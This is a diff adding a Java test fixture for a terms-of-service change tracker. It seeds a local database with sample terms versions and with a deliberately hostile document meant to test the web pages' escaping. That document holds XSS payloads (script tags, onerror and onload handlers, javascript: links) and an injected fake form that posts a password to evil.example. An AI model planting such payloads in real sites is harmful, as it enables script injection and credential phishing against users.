@@ -1,0 +1,107 @@
+package org.clausewatch.web;
+
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.List;
+import java.util.Set;
+import org.clausewatch.common.Sha256;
+import org.clausewatch.history.Chronicle;
+import org.clausewatch.store.Database;
+import org.clausewatch.store.DocumentRow;
+import org.clausewatch.store.NewVersion;
+import org.clausewatch.track.HistoryWriter;
+
+/**
+ * A real SQLite store filled through the real pipeline (segmentation, lineage, change records, as the tracker
+ * records them), and a web server over it on a free loopback port.
+ */
+final class SiteFixture implements AutoCloseable {
+    static final String SERVICE = "Example Service";
+    static final String TERMS = "Terms of Service";
+    static final String HOSTILE_SERVICE = "Evil <script>alert('svc')</script> Corp";
+
+    static final String V1 = """
+            # Terms of Service
+
+            ## 1. Your content
+
+            You keep ownership of the content you upload to Example Service.
+
+            We may use your content to operate the service.
+
+            ## 2. Changes
+
+            We will notify you 30 days before changing these terms.
+            """;
+    static final String V2 = """
+            # Terms of Service
+
+            ## 1. Your content
+
+            You keep ownership of the content you upload to Example Service.
+
+            We may use your content to operate the service and to train our artificial intelligence models.
+
+            ## 2. Changes
+
+            We may change these terms at any time, effective upon posting.
+
+            ## 3. Arbitration
+
+            Disputes are resolved by binding arbitration.
+            """;
+    static final String V3 = V2.replace("binding arbitration.", "binding arbitration in Delaware.");
+
+    static final String HOSTILE = """
+            # Terms <script>alert('title')</script>
+
+            ## Section <img src=x onerror=alert('heading')>
+
+            Our terms <script>alert('body')</script> apply to you.
+
+            Read the [policy](javascript:alert('link')) and <a href="javascript:alert('raw')" onclick="alert('click')">this</a>.
+
+            Look-alike: </p></main><h1>Fake heading</h1><form action="https://evil.example/"><input name=password></form>
+
+            Attribute break "><svg onload=alert('svg')> and ' onmouseover='alert(1)
+            """;
+
+    final Database database;
+    final WebServer web;
+    final DocumentRow document;
+    final DocumentRow hostile;
+
+    SiteFixture(Path dir) {
+        this.database = Database.sqlite(dir.resolve("clausewatch.db"));
+        HistoryWriter history =
+                new HistoryWriter(database.store(), new Chronicle(), org.clausewatch.testing.Readers.shared());
+        long id = database.store().ensureDocument(SERVICE, TERMS);
+        this.document = database.store().document(SERVICE, TERMS).orElseThrow();
+        record(history, document, "2024-01-10T00:00:00Z", V1);
+        record(history, document, "2024-06-01T00:00:00Z", V2);
+        record(history, document, "2025-03-15T00:00:00Z", V3);
+        database.store().ensureDocument(HOSTILE_SERVICE, TERMS);
+        this.hostile = database.store().document(HOSTILE_SERVICE, TERMS).orElseThrow();
+        record(history, hostile, "2024-02-01T00:00:00Z", HOSTILE);
+        record(history, hostile, "2024-03-01T00:00:00Z", HOSTILE + "\nAnother <b onclick=alert(2)>clause</b>.\n");
+        this.web = new WebServer(database.store()).start("127.0.0.1", 0);
+        assert id == document.id();
+    }
+
+    private static void record(HistoryWriter history, DocumentRow document, String at, String markdown) {
+        history.record(
+                document,
+                new NewVersion(
+                        document.id(), Instant.parse(at), markdown, Sha256.of(markdown), Set.of(), "test", List.of()));
+    }
+
+    String base() {
+        return "http://127.0.0.1:" + web.port();
+    }
+
+    @Override
+    public void close() {
+        web.close();
+        database.close();
+    }
+}
